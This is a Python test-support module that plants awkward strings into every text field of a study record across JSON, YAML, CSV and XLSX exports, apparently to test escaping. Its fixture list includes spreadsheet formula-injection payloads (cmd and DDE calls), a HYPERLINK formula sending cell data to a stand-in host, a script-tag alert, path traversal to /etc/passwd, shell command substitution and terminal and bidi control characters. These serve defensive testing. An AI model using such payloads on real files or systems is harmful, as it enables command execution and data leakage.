"""Texts that some program might take for something else, and studies that hold them everywhere."""

import json
import zipfile
from collections.abc import Iterator, Mapping, Sequence
from pathlib import Path
from typing import Any, Final, cast

from implsupport import documents
from implsupport.documents.findings import dotted
from implsupport.records import Study

TEXTS: Final = [
    # formulas, and what has been put before them
    *("=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "=", "{=1+1}", " =1+1", "\n=1+1", "\u00a0=1+1"),
    *("'=1+1", "''=1+1", "'", '"=1+1"', "\uff1d1+1", "\uff20SUM(A1)", "\ufeff=1+1"),
    *("=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@cmd|' /C calc'!A0"),
    *('=HYPERLINK("http://x.example/?"&A1,"see")', '=WEBSERVICE("http://x.example")'),
    *('=IMPORTXML("http://x.example","//a")', "=DDE(1,2,3)"),
    # what parts cells
    *('a",=1+1', 'a"\n=1+1,"b', "a;=1+1"),
    # mark-up, and what workbooks escape characters with
    *("<r><t>mark-up</t></r>", "</t></si><si><t>x", "<r></si><si><t>x</t></r>", "]]><!DOCTYPE a>"),
    *("&lt;b&gt;&amp;", "<script>alert(1)</script>", "_x003D_1+1", "_x005F_x003D_1", "x005F_"),
    *("_x0041_x0042_", "_x001B_[2J"),
    # what other programs read as a number, a date, an error or a link
    *(
        "#N/A",
        "TRUE",
        "1e5",
        "1/2",
        "http://x.example",
        "internal:Sheet1!A1",
        "javascript:alert(1)",
    ),
    # what means something to YAML or to JSON
    *(
        "no",
        "~",
        "null",
        "010",
        "12:30",
        "1.10",
        "2014-05-01",
        ".nan",
        "&a b",
        "*a",
        "!!str a",
        "<<",
    ),
    *(
        "- a",
        "? a",
        ": a",
        "a: b",
        "a #b",
        "# a",
        "| a",
        "%TAG ! a",
        "---",
        "...",
        "--- a",
        "a\n...",
    ),
    *(
        "[a",
        "{a: b}",
        "@a",
        "`a",
        '\\u0041"',
        "\\",
        '"',
        '", "status": "source',
        "a\n\n\n",
        "\n\na ",
    ),
    # what means something to a shell or a terminal
    *("../../etc/passwd", "$(touch x)", "\\x1b[31mred", "\\033]0;x\\007", "a\nstudy.yaml:1:1: b"),
    *("a\u2028b", "a\u2029b", "\uffff"),
]
"""Texts that are text and nothing else."""

HIDDEN: Final = [
    *("\x1b[31mred", "\x1b]0;x", "a\x07", "a\x08b", "a\x00b", "a\x7f", "a\x0bb", "a\x0cb"),
    *("a\x85b", "\x9b31mred", "\u202e=1+1", "a\u2066b", "a\u200fb", "a\u061cb"),
]
"""Texts that hold one character that nobody sees, or takes for another."""

ESCAPED: Final = [*HIDDEN, "\t=1+1", "\r=1+1", "a\ud800b"]
"""Texts that cannot stand in a file as they are, but escaped."""

MARK: Final = "mark"


def everywhere(texts: Sequence[str]) -> Study:
    """Put texts into every field that takes text; the title is the first of them."""
    numbered = list(enumerate(texts))
    evidence = [[{"source": f"s{at}", "locator": text, "quotation": text}] for at, text in numbered]
    judged = {"policy": "p0", "object": "policy", "rubric": "success"}
    values: dict[str, Any] = {
        "title": texts[0],
        "sources": [
            {"key": f"s{at}", "title": text, "authors": [text], "doi": text, "url": text}
            for at, text in numbered
        ],
        "policies": [
            {"key": f"p{at}", "title": text, "jurisdiction": text, "note": text}
            for at, text in numbered
        ],
        "positions": [
            {
                **dict.fromkeys(("part", "basis", "layer", "assessor", "note"), text),
                "policy": f"p{at}",
                "ambiguity": "low",
                "conflict": "low",
                "evidence": evidence[at],
            }
            for at, text in numbered
        ],
        "assessments": [
            {
                **judged,
                "assessor": text,
                "layer": text,
                "ratings": {
                    "clarity": {"gap": "not-stated", "note": text, "evidence": evidence[at]}
                },
            }
            for at, text in numbered
        ],
        "decisions": [
            {
                **judged,
                "criterion": "clarity",
                "grade": "relative-success",
                "assessors": [text],
                "reason": text,
                "layer": text,
            }
            for _, text in numbered
        ],
        "activities": [
            {
                "key": f"a{at}",
                "title": text,
                "policy": "p0",
                "layers": [text],
                "evidence": evidence[at],
            }
            for at, text in numbered
        ],
        "approaches": [
            {"key": f"a{at}", "title": text, "description": text} for at, text in numbered
        ],
        "bodies": [
            {"key": f"b{at}", "title": text, "kind": text, "functions": [text]}
            for at, text in numbered
        ],
    }
    return Study.model_validate(values)


def ways(value: object, path: tuple[int | str, ...] = ()) -> Iterator[tuple[int | str, ...]]:
    """Find the way to every mark."""
    match value:
        case dict():
            for name, part in cast("Mapping[str, object]", value).items():
                yield from ways(part, (*path, name))
        case list():
            for at, part in enumerate(cast("list[object]", value)):
                yield from ways(part, (*path, at))
        case _ if value == MARK:
            yield path
        case _:
            pass


def marked() -> list[str]:
    """Tell the path of every field that takes text."""
    return [dotted(way) for way in ways(everywhere([MARK]).model_dump(mode="json"))]


def plant(path: Path, text: str) -> None:
    """Write a study that says something in every field that takes text, whatever it is."""
    documents.write(everywhere([MARK]), path)
    kinds = {".json": in_quotes, ".yaml": in_quotes, ".xlsx": in_workbook}
    for file in path.iterdir() if path.is_dir() else [path]:
        kinds.get(file.suffix, in_cells)(file, text)


def plant_escaped(path: Path, text: str) -> None:
    """Write a study like that, with a text as JSON and YAML escape it."""
    plant(path, json.dumps(text)[1:-1])


def replaced(path: Path, mark: str, text: str) -> None:
    """Put a text in the place of every mark of a file."""
    data = path.read_bytes().replace(mark.encode(), text.encode("utf-8", "surrogatepass"))
    path.write_bytes(data)


def in_quotes(path: Path, text: str) -> None:
    """Write a text as it stands between quotation marks, be there any or not."""
    replaced(path, f'"{MARK}"', MARK)
    replaced(path, MARK, f'"{text}"')


def in_cells(path: Path, text: str) -> None:
    """Write a text into the cells of a file."""
    replaced(path, MARK, f'"{text}"')


def in_workbook(path: Path, text: str) -> None:
    """Write a text into the cells of a workbook, every character escaped."""
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name).decode() for name in archive.namelist()}
    escaped = "".join(f"_x{ord(character):04X}_" for character in text)
    parts["xl/sharedStrings.xml"] = parts["xl/sharedStrings.xml"].replace(MARK, escaped)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
